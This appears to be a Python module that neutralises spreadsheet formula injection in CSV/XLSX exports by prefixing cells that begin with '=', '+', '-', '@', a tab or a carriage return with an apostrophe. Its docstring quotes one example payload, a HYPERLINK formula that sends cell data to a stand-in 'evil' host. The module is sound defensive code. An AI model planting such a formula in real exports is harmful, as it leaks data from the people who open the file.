"""Cells of files a spreadsheet opens (CSV, XLSX): one home for formula-injection safety.

Excel, LibreOffice and Google Sheets treat a cell that starts with ``=``, ``+``, ``-`` or ``@``
as a formula, and a leading tab or carriage return can hide one; a product name such as
``=HYPERLINK("http://evil/?"&A1,"Xem")`` in an export would run when a printer or an official
opens the file. Every CSV/XLSX writer passes its cells through ``spreadsheet_safe`` (a test in
``tests/core/test_exports.py`` finds writers that do not).
"""

from __future__ import annotations

from collections.abc import Iterable
from typing import Any

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def spreadsheet_safe(cell: Any) -> Any:
    """``cell`` unchanged unless it is text a spreadsheet would read as a formula; such text
    gets a leading apostrophe (OWASP's advice: the apostrophe is shown as text, never run).
    Numbers stay numbers, so a negative amount is still a number."""
    if isinstance(cell, str) and cell.startswith(FORMULA_TRIGGERS):
        return "'" + cell
    return cell


def spreadsheet_row(cells: Iterable[Any]) -> list[Any]:
    """``spreadsheet_safe`` applied to each cell of a row."""
    return [spreadsheet_safe(cell) for cell in cells]


def spreadsheet_unsafe(cell: Any) -> Any:
    """The inverse of ``spreadsheet_safe``, for importers reading our own exports back: text
    that is an apostrophe followed by a formula trigger loses the apostrophe."""
    if isinstance(cell, str) and cell[:1] == "'" and cell[1:].startswith(FORMULA_TRIGGERS):
        return cell[1:]
    return cell
